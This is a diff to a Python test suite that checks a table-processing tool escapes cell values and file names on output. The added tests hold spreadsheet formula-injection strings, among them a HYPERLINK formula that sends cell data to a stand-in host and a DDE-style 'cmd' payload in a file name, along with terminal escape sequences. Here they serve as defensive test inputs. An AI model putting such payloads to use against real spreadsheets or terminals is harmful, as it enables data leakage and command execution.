@@ -13,6 +13,7 @@ from hypothesis import strategies as st
 from rules import __main__ as terminal
 from rules import batch
 from rules.batch import header, rows
+from rules.draft import BadDraft
 
 from . import CALM, NOTICE, ROOT, draft, full_draft, report, typed
 from .test_boundaries import ROWS
@@ -80,6 +81,14 @@ def test_a_table_that_says_a_thing_twice_or_never_ends_is_refused(table, says):
     assert (code, lines) == (2, []) and says in said
 
 
+def test_a_table_of_very_many_columns_is_looked_through_once():
+    """To hold each name against all the others would take an hour."""
+    columns = ["名称", *(f"output.{n}" for n in range(400_000)), "output.7"]
+    assert batch.columns_of(columns[:-1]) == columns[:-1]
+    with pytest.raises(BadDraft, match="重复的栏：output.7。"):
+        batch.columns_of(columns)
+
+
 def test_columns_that_are_no_question_are_said_once():
     code, lines, said = run("-", given="名称,area,备注,output.2019,area_\n甲,12,好,1,\n乙,13,好,2,3\n".encode())
     assert (code, [line[-2] for line in lines[1:]]) == (0, ["", ""]) and said == "表中有几栏不是本通知的栏目，没有计入：备注、output.2019、area_。\n"
@@ -92,6 +101,23 @@ def test_a_line_without_any_value_is_no_cluster_and_counts_as_a_line():
 
 
 NOTICE_WORDS = {"属重点支持": "满足", "未列重点支持": "不适用"}  # a preference, in a column of verdicts
+
+
+NAMES = {"=HYPERLINK(\"http://x/\"&B1)": "'=HYPERLINK(\"http://x/\"&B1)", "+1": "'+1", "-1": "'-1", "@SUM(1)": "'@SUM(1)", "＝1": "'＝1", "\x1b[2J\u202e甲": "[2J甲", "\x1b=1": "'=1", "a=1": "a=1"}
+
+
+def test_no_name_is_run_by_a_spreadsheet_or_a_terminal():
+    table = io.StringIO(newline="")
+    csv.writer(table).writerows([["名称", "area"], *([name, "5"] for name in NAMES)])
+    code, lines, _ = run("-", given=table.getvalue().encode())
+    assert code == 0 and [line[0] for line in lines[1:]] == list(NAMES.values())
+
+
+def test_nor_is_the_name_of_a_file(tmp_path):
+    (tmp_path / "=1+cmd|' !A1.json").write_text(draft({}))
+    (tmp_path / "\x1b[31mred.json").mkdir()
+    _, lines, _ = run(tmp_path)
+    assert [line[0] for line in lines[1:]] == ["[31mred.json", "'=1+cmd|' !A1.json"] and "red.json 是文件夹" in lines[1][-2] and "\x1b" not in lines[1][-2]
 
 
 def test_rows_come_as_drafts_come():
